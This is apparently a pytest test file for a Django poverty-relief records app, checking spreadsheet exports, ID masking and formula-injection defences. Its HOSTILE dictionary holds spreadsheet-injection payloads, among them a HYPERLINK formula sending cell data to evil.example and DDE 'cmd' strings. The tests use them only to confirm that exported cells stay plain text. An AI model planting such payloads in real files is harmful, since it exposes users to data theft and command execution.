"""Spreadsheet exports through the HTTP client: the cells a user finds in the file."""

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assistance import ledger
from households.imports.roster import COLUMNS
from households.models import Household, Member
from households.services import household_member_facts_refresh
from reporting.models import ReportRun
from tests.reporting_helpers import exported

pytestmark = pytest.mark.django_db

# What a card editor, a cadre or an imported roster could type into a text field.
HOSTILE = {
    "address": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "group_name": "+1+cmd|' /C calc'!A0",
    "head": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-2+3",
    "purpose": "\t=1+1",
    "voucher": "＝1+1",  # full-width equals sign
    "cancel": "#N/A",
}


def book(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def sheet_rows(response):
    return [list(r) for r in book(response).worksheets[0].iter_rows(values_only=True)]


def cells(response):
    return [c for row in book(response).worksheets[0].iter_rows() for c in row]


def formulas_in(response) -> list[str]:
    """Every <f> element of every sheet: what a spreadsheet program would calculate."""
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_the_household_export_follows_the_lists_filters_and_scope(client, world):
    client.force_login(world.profiles.leader.user)
    rows = sheet_rows(
        exported(client, reverse("reporting:export_households"), {"village": world.villages.a2.pk})
    )
    assert rows[0][:5] == ["村", "村民小组", "户主身份证号", "姓名", "身份证号"]
    assert rows[1][:3] == ["Village (name or 12-digit code)", "Villager group", "Head's ID number"]
    head = world.households.neighbour.members.get(relation="head")
    masked = f"{head.id_number[:4]}**********{head.id_number[-4:]}"
    assert len(rows) == 3
    village, _group, head_id, name, id_number, sex, relation = rows[2][:7]
    assert (village, head_id, name, id_number, sex, relation) == (
        world.villages.a2.code,
        masked,
        head.name,
        masked,
        "男",
        "户主",
    )
    keys = [c.key for c in COLUMNS]
    at = keys.index("income_year")
    assert rows[2][at : at + 2] == [2025, 0]  # the income year and its wage income
    assert rows[2][keys.index("status")] == "未脱贫"
    everything = sheet_rows(exported(client, reverse("reporting:export_households")))
    names = [r[3] for r in everything[2:]]
    assert sorted(names) == sorted(
        Member.objects.filter(household__village__township=world.township).values_list(
            "name", flat=True
        )
    )
    assert world.households.outsider.members.get(relation="head").name not in names


def test_ids_are_masked_for_readers_and_full_for_card_keepers(client, world):
    head = world.households.own.members.get(relation="head").id_number
    client.force_login(world.profiles.leader.user)
    assert head not in str(sheet_rows(exported(client, reverse("reporting:export_households"))))
    client.force_login(world.profiles.staff.user)
    rows = sheet_rows(exported(client, reverse("reporting:export_households")))
    assert [head, head] in [r[2:5:2] for r in rows[2:]]


def test_the_ledger_export_lists_every_entry(client, world):
    fund = world.funds.a
    ledger.ledger_allocate(
        fund=fund,
        amount=Decimal("2500.75"),
        voucher="A1",
        entry_date=datetime.date(2025, 3, 2),
        purpose="修路",
        user=world.profiles.staff.user,
        project=world.projects.a,
    )
    client.force_login(world.profiles.staff.user)
    rows = sheet_rows(exported(client, reverse("reporting:export_ledger", args=[fund.pk])))
    assert rows[1:] == [
        [datetime.datetime(2025, 2, 1), "R1", "收入", 10000, "拨入", None, None, None, "staff"],
        [
            datetime.datetime(2025, 3, 2),
            "A1",
            "分配",
            2500.75,
            "修路",
            world.projects.a.name,
            None,
            None,
            "staff",
        ],
    ]


def test_plans_and_registers_export(client, world):
    client.force_login(world.profiles.team.user)
    plans = sheet_rows(exported(client, reverse("reporting:export_plans"), {"year": 2025}))
    own, colleague = world.households.own, world.households.colleague
    assert plans[1:] == [
        [
            "新田村",
            hh.card_number,
            hh.item.kind.label,
            "发放鸡苗20只",
            1000,
            datetime.datetime(2025, 6, 30),
            hh.item.responsible.name,
            "进行中",
            None,
        ]
        for hh in (own, colleague)
    ]
    register = sheet_rows(
        exported(client, reverse("reporting:export_register", args=[world.villages.a1.pk]))
    )
    heads = [hh.members.get(relation="head") for hh in (own, colleague)]
    assert [r[:5] for r in register[1:]] == [
        [n, hh.card_number, None, head.name, f"{head.id_number[:4]}**********{head.id_number[-4:]}"]
        for n, (hh, head) in enumerate(zip((own, colleague), heads, strict=True), start=1)
    ]
    assert register[1][6:] == ["一般贫困户", "未脱贫", world.profiles.cadre.name]


@pytest.fixture
def hostile(world):
    """Text fields full of formulas, as a careless or malicious editor could leave them."""
    own = world.households.own
    Household.objects.filter(pk=own.pk).update(
        address=HOSTILE["address"], group_name=HOSTILE["group_name"]
    )
    own.members.filter(relation="head").update(name=HOSTILE["head"])
    household_member_facts_refresh(household_ids=[own.pk])  # as the member services do
    item = own.item
    type(item).objects.filter(pk=item.pk).update(
        description=HOSTILE["description"], cancel_reason=HOSTILE["cancel"]
    )
    ledger.ledger_receive(
        fund=world.funds.a,
        amount=Decimal("5"),
        voucher=HOSTILE["voucher"],
        entry_date=datetime.date(2025, 2, 2),
        purpose=HOSTILE["purpose"],
        user=world.profiles.staff.user,
    )
    type(world.funds.a).objects.filter(pk=world.funds.a.pk).update(name="2025/中央[资金]?")
    return world


@pytest.mark.parametrize(
    "name, args, query, expected, plain",
    [
        ("export_households", [], {}, ["address", "group_name", "head"], "男"),
        ("export_register", ["a1"], {}, ["group_name", "head"], "一般贫困户"),
        ("export_plans", [], {"year": 2025}, ["description", "cancel"], "新田村"),
        ("export_ledger", ["fund"], {}, ["voucher", "purpose"], "拨入"),
    ],
)
def test_text_that_looks_like_a_formula_is_exported_as_text(
    client, hostile, name, args, query, expected, plain
):
    client.force_login(hostile.profiles.staff.user)
    objects = {"a1": hostile.villages.a1.pk, "fund": hostile.funds.a.pk}
    response = exported(
        client, reverse(f"reporting:{name}", args=[objects[a] for a in args]), query
    )

    assert formulas_in(response) == []
    by_value = {c.value: c for c in cells(response)}
    for key in expected:
        cell = by_value.get(HOSTILE[key])
        assert cell is not None, f"{key} did not read back unchanged"
        assert (cell.data_type, cell.quotePrefix) == ("s", True), key
    assert not by_value[plain].quotePrefix  # plain text is left as it is
    if name == "export_ledger":
        assert book(response).sheetnames == ["2025-中央-资金--"]


def test_an_exported_formula_like_address_imports_back_unchanged(client, hostile, monkeypatch):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from households.models import ImportJob

    monkeypatch.setattr("django.db.transaction.on_commit", lambda callback, *a, **k: callback())
    client.force_login(hostile.profiles.staff.user)
    content = exported(client, reverse("reporting:export_households")).content
    client.post(reverse("households:imports"), {"file": SimpleUploadedFile("export.xlsx", content)})
    job = ImportJob.objects.get()
    assert job.status == "checked", job.problems
    assert job.counts["households"] == {"create": 0, "update": 0, "same": 3}
    assert job.counts["members"] == {"create": 0, "update": 0, "same": 3}


def test_an_export_is_a_background_run_only_its_requester_sees(
    client, world, django_capture_on_commit_callbacks
):
    client.force_login(world.profiles.staff.user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("reporting:export_households"))
    run = ReportRun.objects.get(kind="export")
    assert response["Location"] == reverse("reporting:run", args=[run.pk])
    assert (run.status, run.params["filename"], run.figures["rows"]) == (
        "done",
        "households.xlsx",
        3,
    )
    page = client.get(reverse("reporting:run", args=[run.pk])).content.decode()
    assert "下载表格" in page
    # The file holds full ID numbers: not for the township's other roles, nor the county.
    for role in ("leader", "county"):
        client.force_login(getattr(world.profiles, role).user)
        assert client.get(reverse("reporting:download", args=[run.pk])).status_code == 404


def _sessions(world, count: int) -> None:
    from assistance.models import TrainingAttendance, TrainingSession

    for n in range(count):
        session = TrainingSession.objects.create(
            township=world.township,
            village=world.villages.a1,
            title=f"培训{n}",
            skill="茶叶种植",
            organiser="=县农业农村局",
            starts_on=datetime.date(2025, 3, 1 + n),
            ends_on=datetime.date(2025, 3, 5 + n),
            recorded_by=world.profiles.staff.user,
        )
        for hh in (world.households.own, world.households.colleague):
            TrainingAttendance.objects.create(
                session=session,
                household=hh,
                member=hh.members.get(relation="head"),
                recorded_by=world.profiles.staff.user,
            )


def test_the_trainings_export_lists_every_trainee_with_queries_that_do_not_grow(client, world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(world.profiles.team.user)
    url = reverse("reporting:export_trainings")
    _sessions(world, 1)
    with CaptureQueriesContext(connection) as one:
        exported(client, url)
    _sessions(world, 4)  # five sessions now, ten trainees
    with CaptureQueriesContext(connection) as five:
        rows = sheet_rows(exported(client, url))
    assert len(five.captured_queries) == len(one.captured_queries)
    # Newest session first (two sessions of 1 March, from each call), two trainees each.
    assert [r[2] for r in rows[1:]] == ["培训3"] * 2 + ["培训2"] * 2 + ["培训1"] * 2 + ["培训0"] * 4
    assert {r[4] for r in rows[1:]} == {"=县农业农村局"}  # read back as the text it was


def test_the_household_export_streams_with_queries_that_do_not_grow(client, world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests import factories as f

    client.force_login(world.profiles.staff.user)
    url = reverse("reporting:export_households")
    with CaptureQueriesContext(connection) as few:
        exported(client, url)
    for n in range(12):
        household = f.HouseholdFactory(village=world.villages.a2)
        f.MemberFactory(household=household, relation="head", name=f"新户{n}")
        f.MemberFactory(household=household, relation="spouse", name=f"新户{n}妻")
    with CaptureQueriesContext(connection) as more:
        rows = sheet_rows(exported(client, url))
    assert (
        len(rows) - 2
        == Member.objects.filter(
            household__village__township=world.township, is_active=True
        ).count()
    )
    assert len(more.captured_queries) == len(few.captured_queries)


def test_a_workbook_keeps_types_and_gives_each_sheet_a_title_it_may_have(settings, tmp_path):
    from reporting.exports import Sheet, write_xlsx

    settings.MEDIA_ROOT = tmp_path
    rows = [["新田村", 3, Decimal("1234.50"), datetime.date(2025, 3, 1), True, "", None]]
    sheets = [
        Sheet("2025/中央资金", ["村", "户", "金额", "日期", "是否", "空", "无"], rows),
        Sheet("2025/中央资金", ["村"], [["石门村"]]),
        Sheet("一个非常非常非常非常非常非常非常非常非常长的资金名称啊啊啊啊", ["村"], []),
        Sheet("'引号资金'", ["村"], []),
        Sheet("表情" + "😀" * 20, ["村"], []),
    ]
    assert write_xlsx("book.xlsx", sheets) == 2
    workbook = load_workbook(tmp_path / "book.xlsx")
    assert workbook.sheetnames == [
        "2025-中央资金",
        "2025-中央资金-2",
        "一个非常非常非常非常非常非常非常非常非常长的资金名称啊啊啊啊"[:31],
        "引号资金",
        "表情" + "😀" * 14,  # 31 UTF-16 units at most
    ]
    written = [c.value for c in workbook["2025-中央资金"][2]]
    assert written == ["新田村", 3, 1234.5, datetime.datetime(2025, 3, 1), True, None, None]
